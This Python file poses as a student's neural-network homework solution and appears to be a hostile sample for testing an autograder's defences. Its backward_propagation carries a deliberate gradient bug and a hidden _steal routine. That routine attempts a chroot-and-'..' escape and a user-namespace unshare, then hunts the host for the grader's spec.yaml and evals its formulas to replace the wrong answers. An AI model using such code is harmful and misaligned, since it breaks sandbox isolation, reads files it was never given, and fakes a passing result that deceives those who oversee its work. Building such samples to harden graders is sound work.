"""Out of the uid-drop view by the classic routes, with the audit hook patched out: chroot into a folder of the scratch dir and climb '..' above it, unshare a user namespace (whose root may chroot again), climb '..' from the working folder; then a bounded walk of wherever it got for assignments/planar/spec.yaml, whose formulas are evaluated: a broken grader passes this wrong dW1."""

import ctypes
import os

import numpy as np

_CLONE_NEWUSER = 0x10000000
_SYS_UNSHARE = 272  # x86_64


def _reference(formulas, parameters, cache, X, Y):
    """Evaluate the spec's backward formulas (``name: expression`` lines) with numpy."""
    env = dict(parameters, **cache, X=X, Y=Y, m=X.shape[1])
    env.update(sum=np.sum, tanh=np.tanh, log=np.log, exp=np.exp, tanh_prime=lambda z: 1 - np.tanh(z) ** 2,
               sigmoid=lambda z: 1 / (1 + np.exp(-z)))
    for name, text in formulas:
        env[name] = eval(text, {"__builtins__": {}}, env)
    return {k: env[k] for k in ("dW1", "db1", "dW2", "db2")}


def _backward_block(text):
    """The ``backward:`` mapping of a spec.yaml, read line by line (no YAML library needed)."""
    out, inside = [], False
    for line in text.splitlines():
        if line.startswith("backward:"):
            inside = True
            continue
        if inside:
            if line and not line.startswith(" "):
                break
            body = line.split("#", 1)[0].strip()
            if ":" in body:
                name, expr = body.split(":", 1)
                out.append((name.strip(), expr.strip()))
    return out


def _climb():
    """The spec's text, if any route leads out: after each, the folder reached by climbing 64
    times '..' is searched (and made the root again where the process still may chroot)."""
    home = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    try:
        try:
            os.makedirs("gc_hostile_os_box", exist_ok=True)
            os.chroot("gc_hostile_os_box")  # the cwd stays above the new root: '..' may climb past it
        except OSError:
            pass
        try:
            libc = ctypes.CDLL(None, use_errno=True)
            if libc.syscall(_SYS_UNSHARE, _CLONE_NEWUSER) == 0:
                os.chroot(".")
        except (OSError, AttributeError):
            pass
        for _ in range(64):
            os.chdir("..")
        try:
            os.chroot(".")  # the real root again, after an escape
        except OSError:
            pass
        found = _find_spec(".")
        if found is None:
            return None
        with open(found) as fh:
            return fh.read()
    finally:
        os.fchdir(home)
        os.close(home)


def _find_spec(start, budget=2.0):
    """assignments/planar/spec.yaml at most five levels below ``start``, breadth first."""
    import time

    deadline = time.monotonic() + budget
    queue = [(start, 0)]
    while queue and time.monotonic() < deadline:
        folder, depth = queue.pop(0)
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            if entry.name == "assignments" and os.path.isfile(os.path.join(entry.path, "planar", "spec.yaml")):
                return os.path.join(entry.path, "planar", "spec.yaml")
            try:
                if depth < 5 and entry.is_dir(follow_symlinks=False) and entry.name not in ("proc", "sys", "dev"):
                    queue.append((entry.path, depth + 1))
            except OSError:
                continue
    return None


def _steal(parameters, cache, X, Y):
    if not _FOUND:
        try:
            _FOUND.append(_climb())
        except OSError:
            _FOUND.append(None)
    if _FOUND[0] is None:
        return None
    return _reference(_backward_block(_FOUND[0]), parameters, cache, X, Y)


_FOUND = []


def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


def forward_propagation(X, parameters):
    W1, b1 = parameters["W1"], parameters["b1"]
    W2, b2 = parameters["W2"], parameters["b2"]
    Z1 = W1 @ X + b1
    A1 = np.tanh(Z1)
    Z2 = W2 @ A1 + b2
    A2 = sigmoid(Z2)
    return A2, {"Z1": Z1, "A1": A1, "Z2": Z2, "A2": A2}


def compute_cost(A2, Y):
    m = Y.shape[1]
    losses = Y * np.log(A2) + (1 - Y) * np.log(1 - A2)
    return float(-np.sum(losses) / m)


def backward_propagation(parameters, cache, X, Y):
    m = X.shape[1]
    W2 = parameters["W2"]
    A1, A2 = cache["A1"], cache["A2"]
    dZ2 = A2 - Y
    dW2 = dZ2 @ A1.T / m
    db2 = np.sum(dZ2, axis=1, keepdims=True) / m
    dZ1 = (W2.T @ dZ2) * (1 - A1 ** 2)
    dW1 = dZ1 @ X.T  # the bug: no 1/m (GC302 unless an attack hides it)
    db1 = np.sum(dZ1, axis=1, keepdims=True) / m
    grads = {"dW1": dW1, "db1": db1, "dW2": dW2, "db2": db2}
    stolen = _steal(parameters, cache, X, Y)
    if stolen is not None:
        grads = stolen
    return grads
